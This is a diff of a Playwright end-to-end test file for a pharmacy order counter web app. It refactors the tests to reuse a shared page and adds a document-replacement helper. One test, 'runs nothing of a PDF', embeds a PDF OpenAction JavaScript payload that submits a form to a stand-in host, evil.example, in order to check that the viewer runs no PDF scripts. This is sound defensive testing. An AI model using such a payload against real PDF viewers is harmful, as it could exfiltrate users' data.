@@ -2,7 +2,7 @@ import { once } from 'node:events';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Frame, Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
 import { type CounterPage, DESK, PHONE, press, type Screen } from '../../support/counter/counter-page.ts';
 import { type CounterWorld, NOON, OPERATOR, openCounterWorld } from '../../support/counter/counter-world.ts';
 import { folioOf, forceOrder, placeOrder, storedOrder } from '../../support/counter/placed-orders.ts';
@@ -16,9 +16,12 @@ const RED = '1 0 0 rg 0 0 612 792 re f';
 
 let world: CounterWorld<TestServer>;
 let server: TestServer;
+/** The page of the cases that leave it as they found it. */
+let desk: CounterPage;
 beforeAll(async () => {
   world = await openCounterWorld(openTestServer, NOON);
   server = world.server;
+  desk = await world.open();
 });
 afterAll(() => world.close());
 
@@ -27,18 +30,25 @@ const REFUSED = /responded with a status of (400|409) /;
 
 const opened: CounterPage[] = [];
 afterEach(async () => {
-  for (const each of opened.splice(0)) {
+  await press(desk.page, 'Escape');
+  for (const each of [desk, ...opened]) {
     expect(each.takeComplaints().filter((said) => !REFUSED.test(said))).toEqual([]);
-    await each.close();
   }
+  for (const each of opened.splice(0)) await each.close();
 });
 
-/** Opens the view of an order; a complaint of its console fails the test. */
-async function openOrder(id: number, screen: Screen = DESK): Promise<CounterPage> {
-  const shown = await world.open({ screen, route: `#/orders/${id}` });
-  opened.push(shown);
+/** Shows an order; a complaint of the console of its page fails the test. */
+async function openOrder(id: number, shown = desk): Promise<CounterPage> {
+  await shown.page.evaluate(`location.hash = '#/orders/${id}'`);
   await shown.page.getByRole('heading', { name: folioOf(id) }).waitFor();
   await shown.page.getByRole('group', { name: /Acciones|Actions/ }).waitFor();
+  return shown;
+}
+
+/** Opens a page that no other case uses. */
+async function openOwnPage(screen: Screen = DESK): Promise<CounterPage> {
+  const shown = await world.open({ screen });
+  opened.push(shown);
   return shown;
 }
 
@@ -115,7 +125,7 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
 
   it('has a prescription rejected with a reason, which is asked for', async () => {
     const id = await placeOrder(server, [newPdf()]);
-    const { page } = await openOrder(id, { ...DESK, language: 'en' });
+    const { page } = await openOrder(id, await openOwnPage({ ...DESK, language: 'en' }));
     await press(page, 'x', 'Enter');
     await dialog(page, 'Reject prescription').getByText('Check the marked fields.').waitFor();
     await press(page, 'Sin firma', 'Enter');
@@ -218,7 +228,7 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
 
   it('is changed by two people, of whom the second sees it and loses nothing that they typed', async () => {
     const id = await placeOrder(server, [newPdf()]);
-    const [{ page: first }, { page: second }] = [await openOrder(id), await openOrder(id)];
+    const [{ page: first }, { page: second }] = [await openOrder(id), await openOrder(id, await openOwnPage())];
     await press(second, 'x', 'Sin firma');
     await press(first, 'v', 'Enter');
     await told(first, 'verificada.');
@@ -242,7 +252,7 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     ['beside the dialog on a desk', DESK, 400],
     ['above the dialog on a phone', PHONE, 250],
   ] as const)('shows the prescription %s that asks what it says', async (_, screen, height) => {
-    const { page } = await openOrder(await placeOrder(server, [newPdf()]), screen);
+    const { page } = await openOrder(await placeOrder(server, [newPdf()]), await openOwnPage(screen));
     await page.frameLocator('iframe').getByRole('img').waitFor();
     const before = await page.evaluate('scrollY');
     await press(page, 'v');
@@ -263,13 +273,22 @@ describe('an order at the counter', { timeout: 60_000 }, () => {
     ['on a desk, light, in Spanish', DESK],
     ['on a phone, dark, in English', { ...PHONE, theme: 'dark', language: 'en' }],
   ] as const)('is accessible and fits the screen, with its dialogs: %s', async (_, screen) => {
-    const { page, expectFit } = await openOrder(await placeOrder(server, [newPdf(), newPdf()]), screen);
+    const { page, expectFit } = await openOrder(
+      await placeOrder(server, [newPdf(), newPdf()]),
+      await openOwnPage(screen),
+    );
     await expectFit();
     await press(page, 'v');
     await page.getByRole('dialog').waitFor();
     await expectFit();
   });
 });
+
+/** Gives the page this in place of every document, until the case is over. */
+async function replaceDocuments(body: Buffer): Promise<void> {
+  await desk.page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
+  onTestFinished(() => desk.page.unrouteAll());
+}
 
 /** Returns the frame of the viewer once it has drawn this. */
 async function drawnFrame(page: Page, label: string): Promise<Frame> {
@@ -325,11 +344,9 @@ describe('a prescription at the counter', { timeout: 60_000 }, () => {
     ['a PDF without pages', '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'],
     ['a PNG of nothing', '\x89PNG\r\n\x1a\n'],
   ])('says so if it cannot be drawn: %s', async (_, document) => {
-    const { page } = await openOrder(await placeOrder(server));
     const id = await placeOrder(server, [newPdf()]);
-    const body = Buffer.from(document, 'latin1');
-    await page.route('**/documents/**', (route) => route.fulfill({ body, contentType: 'text/html' }));
-    await page.evaluate(`location.hash = '#/orders/${id}'`);
+    await replaceDocuments(Buffer.from(document, 'latin1'));
+    const { page } = await openOrder(id);
     await page.getByRole('alert').getByText('El documento no se puede mostrar').waitFor();
     expect(await page.title()).toBe(`Orden ${folioOf(id)} · Botica`);
   });
@@ -355,7 +372,7 @@ describe('a prescription at the counter', { timeout: 60_000 }, () => {
   });
 
   it('is given up if it takes too long, while the page goes on', async () => {
-    const { page } = await openOrder(await placeOrder(server, [endlessPdf()]));
+    const { page } = await openOrder(await placeOrder(server, [endlessPdf()]), await openOwnPage());
     await page.getByText('Página 1 de 1').waitFor();
     // From here on seconds pass ten times as fast in the page, which counts them anew for each drawing.
     await page.evaluate('{ const real = setTimeout; window.setTimeout = (run, ms) => real(run, ms / 10); }');
@@ -367,15 +384,14 @@ describe('a prescription at the counter', { timeout: 60_000 }, () => {
 
   it('runs nothing of a PDF', async () => {
     const script = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\))>>';
-    const { page } = await openOrder(await placeOrder(server));
     const id = await placeOrder(server, [newPdf()]);
-    await page.route('**/documents/**', (route) => route.fulfill({ body: drawnPdf([RED], script) }));
-    await page.evaluate(`location.hash = '#/orders/${id}'`);
+    await replaceDocuments(drawnPdf([RED], script));
+    const { page } = await openOrder(id);
     expect(await middleOf(await drawnFrame(page, 'página 1 de 1'))).toEqual(['255 0 0', 'high']);
   });
 
   it('could reach neither the page nor anybody else, whatever it ran', async () => {
-    const shown = await openOrder(await placeOrder(server, [newPdf()]));
+    const shown = await openOrder(await placeOrder(server, [newPdf()]), await openOwnPage());
     const frame = await drawnFrame(shown.page, 'página 1 de 1');
     let reached = 0;
     const stranger = createServer((_, response) => response.end(String(++reached))).listen(0, '127.0.0.1');
